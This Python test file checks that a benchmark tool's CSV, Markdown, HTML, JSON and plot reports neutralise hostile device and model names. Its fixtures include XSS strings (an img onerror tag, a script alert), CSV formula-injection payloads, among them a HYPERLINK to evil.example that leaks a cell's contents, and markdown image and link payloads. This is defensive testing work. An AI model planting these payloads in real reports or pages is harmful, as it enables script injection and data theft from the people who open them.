"""Reports of a store whose names are hostile: device names come from `ro.product.model`, model
names from files, so none is trusted. The CSV holds no formula, the Markdown no HTML, link or
extra column, the HTML page no element made of a name, the JSON every name exactly as a string,
and the plots draw every name as plain text (no mathtext: `$\\bad{$` used to be a traceback,
`$\\beta$` a Greek letter)."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from html import escape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from PIL import Image

from bench.cli import main
from bench.compare import build_comparison, measurements_from_store
from bench.report import plots, tabular
from bench.report.render_check import check_render
from tests.compare.schema_check import schema_errors
from tests.compare.stores import FP32, INT8, V2, add_run, samples
from tests.conftest import require_command

EVIL_MODEL = "<img src=x onerror=alert(1)>"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SCRIPT = "<script>alert(1)</script> a|b\\|c\r\nd\re"
MATH = "Pixel $\\bad{$ 7"
BETA = "Pixel $\\beta$"
LINK = "![pixel](http://evil.example/t.png) [click](http://evil.example)"
FORMULAS = ("+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB=1+1", "\rCR=1+1")
EMULATED = "<b>qemu</b> & co"
PHONES = (HYPERLINK, SCRIPT, MATH, BETA, LINK, *FORMULAS)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# A tab or CR drawn in a figure has no glyph: a warning, not a failure.
pytestmark = pytest.mark.filterwarnings("ignore:Glyph .* missing from font")


def _one_line(name: str) -> str:
    """A name as a table cell shows it: line breaks become spaces."""
    return " ".join(name.splitlines())


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    from bench.store import Store

    path = tmp_path_factory.mktemp("hostile") / "bench.sqlite"
    with Store.open(path) as store:
        for i, name in enumerate(PHONES):
            device = (f"SER-{i}", "phone", name, "0xf0")
            add_run(store, device, V2, FP32, samples(60.0 + i, i))
            add_run(store, device, EVIL_MODEL, FP32, samples(30.0 + i, 50 + i), madds=5_000_000)
        # int8 beside fp32 on one device: the int8 speedup figure and table name it too.
        add_run(store, ("SER-1", "phone", SCRIPT, "0xf0"), V2, INT8, samples(40.0, 90))
        add_run(store, ("SER-2", "phone", MATH, "0xf0"), V2, INT8, samples(40.0, 91))
        add_run(store, ("host:evil", "emulated", EMULATED, "0x2"), V2, FP32, samples(500.0, 99))
    return path


@pytest.fixture(scope="module")
def reports(hostile, tmp_path_factory) -> dict[str, str]:
    """Markdown and CSV through the command line (the HTML page has its own test below)."""
    out = tmp_path_factory.mktemp("reports")
    md, table = out / "cmp.md", out / "cmp.csv"
    assert (
        main(["compare", "--store", str(hostile), "--markdown", str(md), "--csv", str(table)]) == 0
    )
    # As bytes: read_text would turn a CR inside a quoted CSV cell into LF.
    return {"md": md.read_bytes().decode(), "csv": table.read_bytes().decode()}


# -- CSV ----------------------------------------------------------------------------------------


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_text_cells_are_never_formulas(reports):
    rows = list(csv.DictReader(io.StringIO(reports["csv"], newline="")))
    devices = {r["device"] for r in rows if r["provenance"] == "phone"}
    assert devices == {("'" + name if name.startswith(FORMULA_STARTS) else name) for name in PHONES}
    assert "'" + HYPERLINK in devices and "'-2+3" in devices and "'\rCR=1+1" in devices
    assert {r["model"] for r in rows} >= {EVIL_MODEL, V2}  # not a formula: as it is
    for row in rows:
        for column, cell in row.items():
            assert _is_number(cell) or not cell.startswith(FORMULA_STARTS), (column, cell)
        if row["provenance"] == "phone":  # numbers stay numbers
            assert float(row["median_ms"]) > 0 and int(row["run_id"]) > 0
            assert int(row["threads"]) == 1 and float(row["madds_m"]) > 0


def test_csv_negative_numbers_stay_numbers(hostile, monkeypatch):
    row = {"device": "-3.2", "model": "=1+1", "median_ms": -3.2, "gmacs": -0.5, "threads": -1}
    monkeypatch.setattr(tabular, "csv_rows", lambda comparison: [row | {"run_id": None}])
    (written,) = csv.DictReader(
        io.StringIO(tabular.to_csv(build_comparison(measurements_from_store(hostile))))
    )
    assert written["device"] == "'-3.2" and written["model"] == "'=1+1"  # text: neutralised
    assert written["median_ms"] == "-3.2" and written["gmacs"] == "-0.5"  # numbers: as they are
    assert written["threads"] == "-1" and written["run_id"] == ""


# -- Markdown -----------------------------------------------------------------------------------


class _Elements(HTMLParser):
    """Every start tag with its attributes, and the text of every table cell and list item."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.rows: list[list[str]] = []
        self.items: list[str] = []
        self._text: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "tr":
            self.rows.append([])
        if tag in ("td", "th", "li"):
            self._text = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._text is not None:
            self.rows[-1].append("".join(self._text).strip())
            self._text = None
        if tag == "li" and self._text is not None:
            self.items.append("".join(self._text).strip())
            self._text = None

    def handle_data(self, data: str) -> None:
        if self._text is not None:
            self._text.append(data)


def _parse(page: str) -> _Elements:
    parser = _Elements()
    parser.feed(page)
    parser.close()
    return parser


def test_markdown_holds_no_html(reports):
    text = reports["md"]
    assert "<" not in text and ">" not in text  # not `<script>`, `<img onerror>`, `<b>`
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert f"| {escape(EVIL_MODEL, quote=False)} |" in text
    assert "&lt;b&gt;qemu&lt;/b&gt; &amp; co" in text  # the note on the emulated run, too


def test_markdown_renders_every_name_as_text_in_its_cell(reports):
    markdown_it = pytest.importorskip("markdown_it")
    page = markdown_it.MarkdownIt("commonmark").enable("table").render(reports["md"])
    parsed = _parse(page)
    tags = {tag for tag, _ in parsed.tags}
    assert not tags & {"script", "img", "a", "b", "code"}, tags
    assert tags >= {"table", "th", "td"}
    recipe = next(row for row in parsed.rows if row[:2] == ["model", "MAdds (M)"])
    for name in PHONES:  # one header cell per device and figure, the name exactly
        assert f"{_one_line(name)} ms".strip() in recipe, (name, recipe)
    assert [row for row in parsed.rows if row[:2] == [EVIL_MODEL, "5"]]
    notes = parsed.items
    assert f"{_one_line(SCRIPT)}: runner bench_runner 0.1.0" in notes
    assert f"{LINK}: runner bench_runner 0.1.0" in notes


def test_markdown_lines_are_whole(reports: dict[str, str]) -> None:
    """A line break in a name (LF, CR or CRLF: all end a Markdown line) would cut its row."""
    lines = reports["md"].splitlines()
    table_lines = [line for line in lines if line.startswith("| ")]
    blocks: dict[int, int] = {}  # first line of a table -> its number of unescaped pipes
    start = None
    for i, line in enumerate(lines):
        if line.startswith("| "):
            start = i if start is None else start
            blocks.setdefault(start, len(re.findall(r"(?<!\\)\|", line)))
            assert len(re.findall(r"(?<!\\)\|", line)) == blocks[start], line
            assert line.endswith(" |"), line
        else:
            start = None
            assert not line.startswith(("d ", "e ")), line  # no piece of SCRIPT on its own
    assert len(table_lines) > 10 and "\r" not in reports["md"]


# -- JSON ---------------------------------------------------------------------------------------


def test_json_keeps_every_name_exactly(hostile: Path, tmp_path: Path) -> None:
    path = tmp_path / "cmp.json"
    assert main(["compare", "--store", str(hostile), "--json", str(path)]) == 0
    text = path.read_bytes().decode("ascii")  # every non-ASCII character escaped
    assert "\r" not in text and "\t" not in text  # control characters only as escapes
    doc = json.loads(text)
    assert schema_errors(doc) == []
    cells = [cell for t in doc["tables"] for row in t["rows"] for cell in row["devices"]]
    assert {cell["device"]["name"] for cell in cells} == set(PHONES)
    assert {row["model"] for t in doc["tables"] for row in t["rows"]} == {V2, EVIL_MODEL}
    assert {column["name"] for t in doc["tables"] for column in t["columns"]} == set(PHONES)
    assert [run["device"]["name"] for run in doc["excluded"]] == [EMULATED]
    assert {s["device"]["name"] for s in doc["speedups"]} == {SCRIPT, MATH}


# -- HTML ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def page(hostile, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("html") / "cmp.html"
    assert main(["compare", "--store", str(hostile), "--html", str(path)]) == 0
    return path


def test_html_is_written_and_escapes_every_name(page):
    text = page.read_bytes().decode()
    parsed = _parse(text)
    tags = [tag for tag, _ in parsed.tags]
    assert tags.count("script") == 1  # the page's own image check, nothing else
    assert "b" not in tags
    images = [attrs for tag, attrs in parsed.tags if tag == "img"]
    assert len(images) == 5  # latency per model, latency vs MAdds, x2 recipes, int8 speedup
    assert all((attrs["src"] or "").startswith("data:image/png;base64,") for attrs in images)
    assert all(set(attrs) == {"alt", "src"} for attrs in images)  # no onerror
    for name in (*PHONES, EVIL_MODEL, EMULATED):
        assert escape(name) in text, name
    assert MATH in text and BETA in text  # nothing in them to escape: literally
    cells = {cell for row in parsed.rows for cell in row}
    assert f"{MATH} ms" in cells and f"{HYPERLINK} ms" in cells and EVIL_MODEL in cells


def test_html_figures_are_valid_png(page):
    found = re.findall(r'src="data:image/png;base64,([^"]+)"', page.read_bytes().decode())
    assert len(found) == 5
    for data in found:
        with Image.open(io.BytesIO(base64.b64decode(data))) as image:
            image.verify()
            assert image.format == "PNG"


def test_html_renders_in_chromium(page, tmp_path):
    require_command("chromium")
    result = check_render(page, tmp_path / "shot.png")
    assert result.ok, result.describe()
    assert result.images == result.images_loaded == 5


# -- the plots: plain text ----------------------------------------------------------------------


def test_plots_draw_names_as_plain_text(hostile: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Drawn as SVG with real text elements, every name appears as written; no text is
    mathtext, the log axes' tick labels included ("10", "100", not `$\\mathdefault{..}$`)."""
    import matplotlib
    from matplotlib.figure import Figure
    from matplotlib.text import Text

    drawn: list[tuple[Figure, str]] = []

    def svg(fig: Figure) -> bytes:
        buffer = io.StringIO()
        with matplotlib.rc_context({"svg.fonttype": "none"}):
            fig.savefig(buffer, format="svg")
        drawn.append((fig, buffer.getvalue()))
        return b"png"

    monkeypatch.setattr(plots, "to_png", svg)
    made = plots.all_plots(build_comparison(measurements_from_store(hostile)))
    assert len(made) == len(drawn) == 5
    everything = "\n".join(text for _, text in drawn)
    for name in (MATH, BETA, "=HYPERLINK(", "@SUM(A1:A9)"):
        assert escape(name, quote=False) in everything, name
    assert "β" not in everything  # `$\\beta$` is not a Greek letter
    assert "mathdefault" not in everything  # nor a log tick label mathtext written out
    for fig, _ in drawn:
        texts = fig.findobj(Text)
        assert texts and not [t.get_text() for t in texts if t.get_parse_math()]
    madds = drawn[1][0].axes[0]
    ticks = [t.get_text() for t in madds.get_xticklabels() + madds.get_yticklabels()]
    assert ticks and all(re.fullmatch(r"[0-9.e+-]*", tick) for tick in ticks), ticks
    assert "10" in ticks and "100" in ticks
